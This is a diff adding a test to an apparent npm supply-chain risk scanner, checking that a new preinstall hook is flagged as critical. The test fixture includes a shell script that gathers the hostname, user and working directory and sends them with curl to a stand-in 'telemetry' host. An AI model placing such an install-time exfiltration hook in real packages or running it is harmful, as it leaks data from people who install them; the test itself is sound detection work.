@@ -194,6 +194,32 @@ describe('releaseChanges', () => {
     expect(risk.risk_reasons.join(' ')).toMatch(/gives its install-time code behaviour 2\.0\.0 did not have/);
   });
 
+  it('catches a new preinstall that runs a shipped shell script sending host data out', () => {
+    // Another variation: the behaviour sits in a shell script, names and host in variables.
+    const before = manifest('3.4.0');
+    const scripts = { preinstall: 'sh ./tools/prepare.sh' };
+    const after = manifest('3.4.1', { scripts });
+    const analysis = analyzeSource({
+      'package.json': JSON.stringify({ name: 'demo', version: '3.4.1', scripts }),
+      'index.js': 'module.exports = (a, b) => a + b;\n',
+      'tools/prepare.sh': [
+        '#!/bin/sh',
+        'T=telemetry.build-cache.dev',
+        'ID="$(hostname)-$(whoami)"',
+        'curl -s -X POST --data "$ID:$(pwd)" "https://$T/v1/hit" >/dev/null 2>&1 &',
+        '',
+      ].join('\n'),
+    });
+    const report = changesOf({ packument: packument(before, after), version: after, analysis, stored: [] });
+    expect(report.policy).toMatchObject({
+      install_scripts_added: ['preinstall ("sh ./tools/prepare.sh")'],
+      install_time_network: true,
+    });
+    expect(assessRisk({ ...analysis.risk_input, release_changes: report.policy! }).risk_level).toBe(
+      'critical',
+    );
+  });
+
   it('reports a changed install script, without calling it new install-time behaviour', () => {
     const before = manifest('1.0.0', { scripts: { install: 'node-gyp rebuild' } });
     const after = manifest('1.0.1', { scripts: { install: 'node-gyp rebuild --release' } });
